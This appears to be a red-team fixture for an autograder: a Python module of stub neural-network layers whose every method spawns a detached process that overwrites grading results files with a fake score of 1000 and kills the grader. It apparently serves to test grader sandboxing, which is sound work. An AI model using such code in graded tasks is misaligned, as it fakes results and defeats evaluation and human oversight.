"""Attack: a detached grandchild (new session) that outlives the check, then writes the results file and signals the grader."""
import os
import signal
import time

import numpy as np


def attack(x, *rest):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.5)
            for path in (os.environ.get("NNBOOK_ATTACK_MARKER", "/tmp/pwned"), "_build/grading/results.json",
                         os.path.join(os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results", "results.json")):
                try:
                    with open(path, "w") as f:
                        f.write("{\"score\": 1000, \"tests\": []}")
                except OSError:
                    pass
            for sig in (signal.SIGKILL, signal.SIGTERM):
                try:
                    os.kill(int(os.environ.get("NNBOOK_ATTACK_PID", "0")) or os.getppid(), sig)
                except OSError:
                    pass
        os._exit(0)
    return np.zeros(np.shape(x))


class _Attack:
    """Stands in for every layer and loss of the chapter."""

    def __init__(self, *args, **kwargs):
        pass

    def parameters(self):
        return {}

    def forward(self, *args):
        return attack(*args)

    def backward(self, *args):
        return attack(*(args or (np.zeros(3),)))


ELU = Softplus = GELU = HuberLoss = Residual = Embedding = _Attack


def numerical_jacobian(f, x, h=1e-5):
    return attack(x)
